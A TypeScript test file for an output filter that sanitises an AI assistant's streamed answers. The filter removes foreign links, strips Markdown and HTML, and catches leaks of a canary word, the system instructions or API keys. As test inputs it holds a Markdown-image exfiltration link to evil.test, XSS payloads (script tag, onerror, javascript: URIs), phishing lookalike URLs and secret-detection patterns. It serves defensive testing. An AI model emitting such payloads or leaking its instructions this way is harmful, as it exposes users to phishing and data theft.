import fc from 'fast-check'
import { describe, expect, it, test } from 'vitest'
import { asPlainText, createAnswerFilter, leaks } from './answer-filter.ts'

const rules = {
  origin: 'https://hiram.ph',
  supportEmail: 'support@hiram.ph',
  canary: 'Kalabaw-7f3a9c21',
  instructions:
    'You are the assistant of Hiram.\nAnswer in at most 120 words, as plain text, without Markdown.',
}
const plain = (text: string) => asPlainText(text, rules)

describe('an answer as it is shown', () => {
  test.each([
    ['**Pay** now, __please__', 'Pay now, please'],
    ['# Fees\n\n* five\n• per cent', 'Fees\n\n- five\n- per cent'],
    ['See [the help](/help/refunds).', 'See the help (/help/refunds).'],
    ['See [the help](https://hiram.ph/help).', 'See the help (https://hiram.ph/help).'],
    ['Pay at [PayMongo](https://evil.test/pay).', 'Pay at PayMongo.'],
    ['![x](https://evil.test/?q=secret)Hello', 'Hello'],
    ['<b>Hi</b><script src="x">alert(1)</script>', 'Hialert(1)'],
    ['<img src=x onerror=alert(1)>Hi', 'Hi'],
    ['Go to https://evil.test/a?b=c, now', 'Go to [link removed] now'],
    ['Go to evil-hiram.com/login or www.evil.ph', 'Go to [link removed] or [link removed]'],
    ['javascript:alert(1) and //evil.test/x', '[link removed] and [link removed]'],
    ['https://hiram.ph.evil.test/ and https://hiram.phish.com', '[link removed] and [link removed]'],
    ['https://hiram.ph@evil.test/', '[link removed]'],
    [
      'Go to evil**.com**/login, evil-`hiram.com` or www`.evil.ph`',
      'Go to [link removed] [link removed] or [link removed]',
    ],
    ['Write to boss@`evil.com` or boss__@evil.com__', 'Write to boss@[removed] or boss@[removed]'],
    ['Open https://hiram.ph/help/refunds.', 'Open https://hiram.ph/help/refunds.'],
    ['Write to support@hiram.ph or boss@evil.com', 'Write to support@hiram.ph or boss@[removed]'],
    ['It is 5% < 10%, i.e. ₱15.00. e.g. this', 'It is 5% < 10%, i.e. ₱15.00. e.g. this'],
    ['hid\u200bden \u202eturned', 'hidden turned'],
    ['Use `code` here', 'Use code here'],
  ])('%s is %s', (said, shown) => expect(plain(said)).toBe(shown))
})

describe('a leak', () => {
  it.each([
    'It is Kalabaw-7f3a9c21.',
    'k a l a b a w - 7 f 3 a 9 c 2 1',
    'KALABAW 7F3A9C21',
    [...rules.canary].toReversed().join(''),
    btoa(rules.canary),
    'My rules: Answer in at most 120 words, as plain text, without Markdown.',
    'answer in AT MOST 120 words as plain text without markdown',
    'AIzaSyB4kQ7sLm3T9hV2rT8nBq1ZcXw',
    'sk_live_9hV2kQ7sLm3T',
    'whsk_4rT8nBq1ZcXw',
    '-----BEGIN PRIVATE KEY-----',
  ])('is %s', (said) => expect(leaks(said, rules)).toBe(true))

  it.each(['A kalabaw is a water buffalo.', 'I am the assistant of Hiram.', 'Press sk_ip.'])(
    'is not %s',
    (said) => expect(leaks(said, rules)).toBe(false),
  )
})

describe('the filter of a streamed answer', () => {
  const through = (...pieces: string[]) => {
    const filter = createAnswerFilter(rules)
    const shown = pieces.map((piece) => filter.push(piece))
    return { shown: [...shown, filter.end()], filter }
  }

  it('passes whole words as they arrive', () => {
    expect(through('The ser', 'vice fee is', ' 5% of it.').shown).toEqual([
      'The ',
      'service fee ',
      'is 5% of ',
      'it.',
    ])
  })

  it('checks a link once it is complete, wherever it is cut', () => {
    const said = 'Pay at [Pay Mongo](https://evil.test/x) or at https://evil.test/y now, **please do** so.'
    const whole = plain(said)
    expect(whole).toBe('Pay at Pay Mongo or at [link removed] now, please do so.')
    for (let at = 0; at <= said.length; at++)
      expect(through(said.slice(0, at), said.slice(at)).shown.join('')).toBe(whole)
    expect(through(...said).shown.join('')).toBe(whole)
  })

  it('shows nothing more after a leak, and never the secret itself', () => {
    const { shown, filter } = through('My secret word is Kala', 'baw-7f3a', '9c21, and more')
    expect(filter.leaked).toBe(true)
    expect(shown.join('')).toBe('My secret word is ')
  })

  it('ends an answer that does not stop', () => {
    const { shown, filter } = through(...Array.from({ length: 900 }, () => 'word after word '))
    expect(filter.text.length).toBeLessThanOrEqual(2000)
    expect(shown.join('').trim()).toBe(filter.text)
    expect(filter.text.endsWith('…')).toBe(true)
  })

  it.each(['', 'x'])('ends an answer of one long word %swithout half a character', (before) => {
    expect(through(before + '🏕'.repeat(2000)).filter.text.isWellFormed()).toBe(true)
  })

  it('shows the same words for any division into pieces', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme', maxLength: 12 }), { maxLength: 30 }), (pieces) => {
        const { shown, filter } = through(...pieces)
        expect(shown.join('').trim()).toBe(filter.text)
      }),
    )
  })
})
